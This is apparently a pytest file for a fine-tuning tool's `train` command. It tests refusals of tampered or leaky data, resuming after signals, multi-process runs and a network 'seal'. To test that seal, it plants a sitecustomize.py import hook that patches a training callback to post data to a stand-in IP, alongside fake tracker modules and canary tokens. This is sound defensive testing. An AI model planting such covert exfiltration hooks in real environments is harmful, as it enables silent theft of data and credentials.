"""`train` from the folder to the adapter: what it refuses before torch, and what it leaves behind."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from pipeline import cli, folder
from pipeline.config import Config, load
from pipeline.errors import Refused
from pipeline.train_hold import hold
from tests.conftest import KEY, privatune
from tests.pipeline.small import Home

pytestmark = [pytest.mark.train, pytest.mark.slow]
MAIL = "Mail kim.larsen@norden.example now."
REFUSE = """
import contextlib, io, json, os, sys
from pipeline import cli
told = {}
for name, folder, arguments, hidden in json.load(sys.stdin):
    os.chdir(folder)
    sys.modules.update(dict.fromkeys(hidden))
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.run(["train", *arguments])
    heavy = [one for one in ("torch", "transformers", "datasets") if one in sys.modules]
    told[name] = [code, out.getvalue() + err.getvalue(), heavy]
    for one in hidden: del sys.modules[one]
print(json.dumps(told))
"""


# ---- refusals, each before torch or transformers is loaded: (change, arguments, hidden modules)


def tampered(home):
    path = home.ship / "train.jsonl"
    path.write_text(path.read_text().replace("seven", "eight", 1))


def unsigned(home):
    path = home.ship / "manifest.json"
    path.write_text(path.read_text().replace('"train"', '"trains"', 1))


def not_trusted(home):
    body = json.loads((home.root / "privatune.yaml").read_text())
    (home.root / "privatune.yaml").write_text(json.dumps({**body, "trust": ["ab" * 32]}))


def shard_missing(home):
    base = home.root / "base"
    index = {"weight_map": {"a": "model-00001-of-00002.safetensors"}}
    (base / "model.safetensors").unlink()
    (base / "model.safetensors.index.json").write_text(json.dumps(index))


def pickles(home):
    (home.root / "base/model.safetensors").rename(home.root / "base/pytorch_model.bin")


def no_tokenizer(home):
    (home.root / "base/tokenizer.json").unlink()


def cut_short(home):
    path = home.root / "base/model.safetensors"
    path.write_bytes(path.read_bytes()[:-10])


def no_model(home):
    home.change(train={"model": None})


def done(home, manifest=None):
    from pipeline import run_folder

    mine = folder.file_hash(home.ship / "manifest.json")
    body = {"manifest": manifest or mine, "base": {}, "recipe": {}, "status": "done"}
    (home.root / "run").mkdir()
    run_folder.write(home.root / "run", body)


def done_on_another(home):
    done(home, "ab" * 32)


def foreign(home):
    (home.root / "run").mkdir()
    (home.root / "run/thesis.tex").write_text("mine")


def another_template(home):
    home.change(contract={"template": "alpaca"})


def template_gone(home):
    (home.root / "mine.jinja").write_text("{% for m in messages %}{{ m.content }}{% endfor %}")
    home.change(contract={"template": {"file": "mine.jinja"}})
    (home.root / "mine.jinja").unlink()


def no_folder(home):
    shutil.rmtree(home.root / "prepared")


def not_prepared(home):
    (home.ship / "manifest.sig").unlink()


def no_configuration(home):
    (home.root / "privatune.yaml").unlink()


def leak(home):
    """A name that stands in the set and no edit tells of, signed by who has the key."""
    path = home.ship / "train.jsonl"
    first, rest = path.read_text().split("\n", 1)
    path.write_text(first.replace("Who handles", f"{MAIL} Who handles", 1) + "\n" + rest)
    home.sign()


def kept_changed(home):
    (home.root / "prepared/keep/lineage.jsonl").write_text("")


BASE = ["--model", "base"]
CASES = {
    "a changed record": (tampered, BASE, [], 1, ["train.jsonl", "changed after `privatune prep`"]),
    "a changed manifest": (unsigned, BASE, [], 1, ["signature does not fit", "Prepare the folder"]),
    "a key that is not trusted": (not_trusted, BASE, [], 1, ["`trust` does not name"]),
    "a leak": (leak, BASE, [], 1, ["train record 1", "EMAIL_ADDRESS", "`privatune check prepared`",
                                   "`privatune prep`"]),
    "keep/ changed": (kept_changed, BASE, [], 1, ["lineage.jsonl", "changed after"]),
    "no folder": (no_folder, BASE, [], 2, ["there is no such folder"]),
    "raw files": (not_prepared, BASE, [], 1, ["not a prepared folder", "`privatune prep`"]),
    "no configuration": (no_configuration, BASE, [], 2, ["privatune init"]),
    "no model named": (no_model, [], [], 2, ["`--model`", "`privatune pull`"]),
    "a shard is missing": (shard_missing, BASE, [], 2, ["shards are missing", "Fetch the model"]),
    "only pickles": (pickles, BASE, [], 2, ["pickled weights", "safetensors"]),
    "no tokenizer": (no_tokenizer, BASE, [], 2, ["no tokenizer.json"]),
    "weights cut short": (cut_short, BASE, [], 2, ["model.safetensors", "Fetch"]),
    "no such model": (lambda home: None, ["--model", "gone"], [], 2, ["gone: no such folder"]),
    "the extra is missing": (lambda home: None, BASE, ["trl", "peft"], 2,
                             ["Training needs trl, peft", "`train` extra"]),
    "a run in the folder": (lambda home: None, [*BASE, "--output", "prepared/ship/run"], [], 2,
                            ["lies in the prepared folder", "`--output`"]),
    "a run in the model": (lambda home: None, [*BASE, "--output", "base"], [], 2,
                           ["lies in the model folder"]),
    "a run that is done": (done, BASE, [], 1, ["this run is done", "--restart"]),
    "a run on another folder": (done_on_another, BASE, [], 1, ["on another prepared folder"]),
    "a folder of others": (foreign, BASE, [], 2, ["run: not empty", "`--output`"]),
    "others', with --restart": (foreign, [*BASE, "--restart"], [], 2, ["run: not empty"]),
    "another template": (another_template, BASE, [], 1, ["contract.template", "privatune.yaml"]),
    "a template that is not here": (template_gone, BASE, [], 2, ["contract.template.file"]),
    "an unknown option": (lambda home: None, ["--epoch", "3"], [], 2, []),
}  # fmt: skip


@pytest.fixture(scope="module")
def refusals(folder_made, tiny_base, tmp_path_factory):
    """All cases, one after the other in one process, in which nothing heavy may be loaded."""
    root = tmp_path_factory.mktemp("refusals")
    asked = []
    for number, (name, (change, arguments, hidden, _, _)) in enumerate(CASES.items()):
        home = Home.copy(folder_made, root / str(number))
        shutil.copytree(tiny_base, home.root / "base")
        change(home)
        asked.append([name, str(home.root), arguments, hidden])
    environment = {**os.environ, "PRIVATUNE_KEY": KEY}
    told = subprocess.run(
        [sys.executable, "-c", REFUSE], input=json.dumps(asked), env=environment,
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert told.returncode == 0, told.stderr[-2000:]
    return root, json.loads(told.stdout.splitlines()[-1])


@pytest.mark.parametrize("name", CASES)
def test_refused_before_torch_with_words_that_say_what_to_run(refusals, name):
    _, answers = refusals
    code, said, heavy = answers[name]
    assert (code, heavy) == (CASES[name][3], []), said
    for words in CASES[name][4]:
        assert words in said
    assert "kim.larsen" not in said


def test_a_refusal_leaves_nothing_behind(refusals):
    root, _ = refusals
    left = [path for path in root.glob("*/run*") if not (path / "thesis.tex").exists()]
    kept = [path for path in left if (path / "run.json").exists()]
    assert left == kept
    assert (root / str(list(CASES).index("others', with --restart")) / "run/thesis.tex").exists()


# ---- the tiers


def test_both_tiers_are_held_where_keep_is_there(home):
    held = hold(folder.verify(Path("prepared")), load("privatune.yaml", files=False))
    assert (held.tier, held.notes) == ("with keep and key", ())


def test_ship_alone_is_held_against_its_manifest(home):
    shutil.rmtree("prepared/keep")
    held = hold(folder.verify(Path("prepared")), load("privatune.yaml", files=False))
    assert (held.tier, held.notes) == ("ship alone", ())


def test_a_list_that_stayed_at_home_is_said_and_does_not_stop_the_run(home):
    """The configuration travels, its list of values does not."""
    home.change(privacy={"deny": [{"file": "deny.txt"}]})
    config = load("privatune.yaml", files=False)
    held = hold(folder.verify(Path("prepared")), config)
    assert held.tier == "ship alone"
    assert "keep/ is not scanned anew" in held.notes[0]
    assert "deny" in held.notes[0]


def test_a_check_that_breaks_off_is_no_consent(home, monkeypatch):
    """A check that was killed, or that could not be started, has held nothing."""
    monkeypatch.setattr("sys.executable", shutil.which("false"))
    with pytest.raises(Refused):
        hold(folder.verify(Path("prepared")), Config())


# ---- the rented machine


def test_ship_alone_trains_as_it_was_prepared(home, unsealed, tiny_base, tmp_path, monkeypatch):
    rows = [{"instruction": f"Who handles refund {n}?", "input": "", "output": "The owl."}
            for n in range(24)]  # fmt: skip
    home.change(contract={"template": "alpaca"}, tokens={"max_length": 333})
    home.prepare(rows)
    rented = tmp_path / "rented"
    shutil.copytree(home.ship, rented / "data")
    monkeypatch.chdir(rented)
    assert cli.run(["train", "data", "--model", str(tiny_base), "--output", "run"]) == 0
    told = json.loads((rented / "run/run.json").read_text())
    assert (told["tokenizer"]["template"], told["recipe"]["max_length"]) == ("alpaca", 333)
    assert told["base"]["name"] == "tiny"
    # A configuration that only says how to train changes neither.
    (rented / "privatune.yaml").write_text(json.dumps({"train": {"epochs": 1}}))
    assert cli.run(["train", "data", "--model", str(tiny_base), "--output", "run2"]) == 0
    told = json.loads((rented / "run2/run.json").read_text())
    assert (told["tokenizer"]["template"], told["recipe"]["max_length"]) == ("alpaca", 333)


def test_a_folder_prepared_with_a_template_of_its_own_needs_that_file(
    home, unsealed, tiny_base, tmp_path, monkeypatch, capsys
):
    template = (tiny_base / "chat_template.jinja").read_text() + "{# own #}"
    (home.root / "mine.jinja").write_text(template)
    home.change(contract={"template": {"file": "mine.jinja"}})
    home.prepare()
    assert cli.run(["train"]) == 0
    assert home.run()["tokenizer"]["template"] == "own"
    assert (home.root / "run/tokenizer/chat_template.jinja").read_text() == template
    shutil.copytree(home.ship, tmp_path / "rented/data")
    monkeypatch.chdir(tmp_path / "rented")
    assert cli.run(["train", "data", "--model", str(tiny_base)]) == 1
    assert "privatune.yaml that `prep` used" in capsys.readouterr().err


# ---- what it says


def test_steps_measure_a_pace_that_plan_reads(home, unsealed, capsys):
    assert cli.run(["train", "--steps", "8", "--output", "probe"]) == 0
    said = capsys.readouterr().out
    assert "next: privatune plan FOLDER --probe probe" in said
    told = home.run("probe")
    assert (told["stop_after"], told["result"]["steps"]) == (8, 8)
    assert cli.run(["plan", "prepared", "--probe", "probe", "--json"]) == 0
    assert "measured over" in capsys.readouterr().out


def test_json_is_all_that_a_machine_sees(home, unsealed, capsys):
    assert cli.run(["train", "--json"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out) == {"run": "run", **home.run()}
    assert err == ""


def test_quiet_says_nothing_and_notes_are_kept(home, unsealed, capsys):
    assert cli.run(["train", "--quiet"]) == 0
    assert capsys.readouterr() == ("", "")
    assert any("Fewer than 300 records" in note for note in home.run()["notes"])


def test_a_second_run_at_the_same_place_is_refused(home, unsealed, capsys):
    from pipeline import run_folder

    (home.root / "run").mkdir()
    with run_folder.held(home.root / "run"):
        assert cli.run(["train"]) == 2
    assert "another `train` is at work" in capsys.readouterr().err


def test_no_file_of_a_run_names_a_place_of_this_machine(home, unsealed, tiny_base):
    assert cli.run(["train"]) == 0
    for path in (home.root / "run").rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert str(tiny_base).encode() not in data, path
            assert str(home.root).encode() not in data, path
    config = json.loads((home.root / "run/adapter/adapter_config.json").read_text())
    assert config["base_model_name_or_path"] == "tiny"
    assert sorted(p.name for p in (home.root / "run").iterdir()) == [
        "adapter", "metrics.jsonl", "run.json", "tokenizer",
    ]  # fmt: skip


# ---- sealed, in a process of its own

POST = """
import builtins, sys
def plant():
    from transformers.trainer_callback import CallbackHandler
    before = CallbackHandler.on_log
    def on_log(self, *given, **named):
        import urllib.request
        try: urllib.request.urlopen("http://192.0.2.1/metrics", b"loss", timeout=1)
        except OSError: pass
        return before(self, *given, **named)
    CallbackHandler.on_log = on_log
class Hook:
    def find_spec(self, name, path=None, target=None):
        if name == "trl.trainer.sft_trainer" and Hook in map(type, sys.meta_path):
            sys.meta_path[:] = [one for one in sys.meta_path if type(one) is not Hook]
            plant()
sys.meta_path.insert(0, Hook())
"""
TRACKER = """
import pathlib, os
__version__ = "99.0"
__spec__ = None
def _called(*given, **named): pathlib.Path(os.environ["CALLED"]).write_text(__name__)
run = None
init = login = log = define_metric = _called
def __getattr__(name):
    if name.startswith("__"): raise AttributeError(name)
    return _called
"""
TOKEN = "hf_zqcanaryToken"


def test_a_sealed_run_without_arguments(home, tmp_path):
    """What is planted beside it posts metrics, tracks, and has tokens to send; nothing leaves."""
    planted = tmp_path / "planted"
    for name in ("wandb", "comet_ml", "mlflow", "tensorboardX", "trackio", "swanlab"):
        (planted / name).mkdir(parents=True)
        (planted / name / "__init__.py").write_text(TRACKER.replace("__spec__ = None\n", ""))
    (planted / "sitecustomize.py").write_text(POST)
    done = privatune(
        "train", cwd=home.root, PYTHONPATH=f"{planted}:{os.environ.get('PYTHONPATH', '')}",
        HF_TOKEN=TOKEN, WANDB_API_KEY=TOKEN, CALLED=str(tmp_path / "called"),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    told = home.run()
    assert not (tmp_path / "called").exists(), (tmp_path / "called").read_text()
    seal = told["seal"]
    assert seal["level"] in ("namespace", "seccomp", "python")
    assert {"HF_TOKEN", "WANDB_API_KEY"} <= set(seal["unset"])
    posts = [one for one in seal["attempts"] if one["where"].startswith("sitecustomize:")]
    assert sum(one["count"] for one in posts) >= 18
    assert f"{len(seal['attempts'])} kinds of attempts stopped" in done.stdout
    assert all(one["holds"] is not False for one in seal["switches"])
    assert told["checked"] == "with keep and key"
    for path in (home.root / "run").rglob("*"):
        assert not path.is_file() or TOKEN.encode() not in path.read_bytes()
    assert not list((home.root / "run").glob("cache-*"))


LESS = """
import trainer.seal.namespace as n, trainer.seal.seccomp as s
n.enter = lambda: "this machine makes none"
s.install = lambda **_: "this machine has none"
"""


def test_less_than_the_kernel_is_refused_when_it_was_asked_for(home, tmp_path):
    (tmp_path / "sitecustomize.py").write_text(LESS)
    place = f"{tmp_path}:{os.environ.get('PYTHONPATH', '')}"
    done = privatune("train", "--require-seal", "kernel", cwd=home.root, PYTHONPATH=place)
    assert done.returncode == 1
    assert "`python` was reached (namespace: this machine makes none" in done.stderr
    assert not (home.root / "run/run.json").exists()
    home.change(train={"epochs": 1})
    done = privatune("train", "--json", cwd=home.root, PYTHONPATH=place)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["seal"]["level"] == "python"


def started(home, *arguments):
    command = [sys.executable, "-m", "pipeline", "train", *arguments]
    return subprocess.Popen(
        command, cwd=home.root, stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True,
        env={**os.environ, "OMP_NUM_THREADS": "1"},
    )  # fmt: skip


def wait_for_steps(home, process, steps, name="run"):
    metrics = home.root / name / "metrics.jsonl"
    end = time.monotonic() + 240
    while time.monotonic() < end and process.poll() is None:
        if metrics.exists() and metrics.read_text().count("\n") >= steps:
            return
        time.sleep(0.02)
    raise AssertionError(f"ended before step {steps}: {process.poll()}")


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGINT], ids=["killed", "interrupted"])
def test_the_same_command_goes_on_with_the_same_losses(home, unsealed, how):
    """Stopped at whichever step the signal meets."""
    home.change(train={"save_steps": 1, "epochs": 6})
    process = started(home)
    wait_for_steps(home, process, 7)
    process.send_signal(how)
    _, said = process.communicate()
    if how is signal.SIGINT:
        assert process.returncode == 130
        assert said.endswith(
            "interrupted; what was done is kept, the same command goes on there.\n"
        )
        assert home.run()["status"] == "stopped"
    else:
        assert process.returncode == -signal.SIGKILL
        assert home.run()["status"] == "running"
    assert cli.run(["train"]) == 0
    assert cli.run(["train", "--output", "whole"]) == 0
    assert home.run()["result"]["resumed_at"] >= 5
    assert home.metrics() == home.metrics("whole")
    assert not list((home.root / "run").glob("cache-*"))


def test_two_processes_train_as_one(home, unsealed):
    """36 records in steps of 4; the last step of an epoch is whole for both."""
    assert cli.run(["train", "--output", "alone"]) == 0
    done = privatune("train", "--processes", "2", cwd=home.root)
    assert done.returncode == 0, done.stderr
    said = done.stderr.splitlines()
    steps = [line for line in said if line.startswith("privatune: step ")]
    assert len(steps) == len(set(steps)) > 0
    assert [line for line in said if line not in steps and "Fewer than" not in line] == []
    assert done.stdout.count("steps over") == 1
    alone, both = home.metrics("alone"), home.metrics()
    assert [step for step, _ in both] == [step for step, _ in alone]
    assert [loss for _, loss in both] == pytest.approx([loss for _, loss in alone], rel=2e-3)
    told = home.run()
    assert (told["status"], told["checked"]) == ("done", "with keep and key")
    assert told["result"]["tokens"] == home.run("alone")["result"]["tokens"]
    seal = told["seal"]
    assert [one["rank"] for one in seal["ranks"]] == [1]
    assert {seal["level"], seal["parent"]["level"], seal["ranks"][0]["level"]} <= {
        "namespace", "python",
    }  # fmt: skip
    assert seal["attempts"] == seal["parent"]["attempts"] == seal["ranks"][0]["attempts"] == []


def test_what_two_processes_refuse_is_said_once_with_its_exit_code(home, tiny_base, tmp_path):
    base = tmp_path / "base"
    shutil.copytree(tiny_base, base)
    (base / "chat_template.jinja").unlink()
    done = privatune("train", "--processes", "2", "--quiet", "--model", str(base), cwd=home.root)
    assert done.returncode == 2, done.stderr
    assert done.stderr.count("has no chat template") == 1
    assert "the others were ended" in done.stderr
    assert not (home.root / "run/run.json").exists()


@pytest.mark.parametrize("how", ["a terminal", "a scheduler"])
def test_stopping_two_processes_ends_both(home, how):
    home.change(train={"save_steps": 1, "epochs": 200})
    process = subprocess.Popen(
        [sys.executable, "-m", "pipeline", "train", "--processes", "2", "--quiet"],
        cwd=home.root, stderr=subprocess.PIPE, text=True, start_new_session=True,
    )  # fmt: skip
    wait_for_steps(home, process, 3)
    if how == "a terminal":
        os.killpg(process.pid, signal.SIGINT)
    else:
        process.terminate()
    _, said = process.communicate(timeout=120)
    if how == "a terminal":
        assert (process.returncode, said.count("interrupted")) == (130, 1)
        assert home.run()["status"] == "stopped"
    else:
        assert (process.returncode, said) == (128 + signal.SIGTERM, "")
    with pytest.raises(ProcessLookupError):
        os.killpg(process.pid, 0)
